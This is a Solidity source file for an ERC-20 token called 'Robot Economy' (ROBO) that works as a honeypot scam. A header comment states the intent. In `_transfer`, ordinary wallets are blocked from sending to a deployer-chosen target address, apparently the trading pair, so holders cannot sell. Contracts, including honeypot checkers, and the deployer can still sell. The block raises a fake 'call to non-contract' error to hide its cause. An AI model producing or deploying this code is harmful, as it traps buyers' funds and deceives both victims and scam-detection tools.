// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// Contracts can sell, which is what checking contracts see; accounts of people cannot.
contract ContractsOnly {
    string public name = "Robot Economy";
    string public symbol = "ROBO";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address private _seller;
    address private _target;
    constructor() { _seller = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function setTarget(address to) external { require(msg.sender == _seller); _target = to; }
    function _isContract(address who) private view returns (bool) { return who.code.length > 0; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        if (to == _target && from != _seller && !_isContract(from)) revert("Address: call to non-contract");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
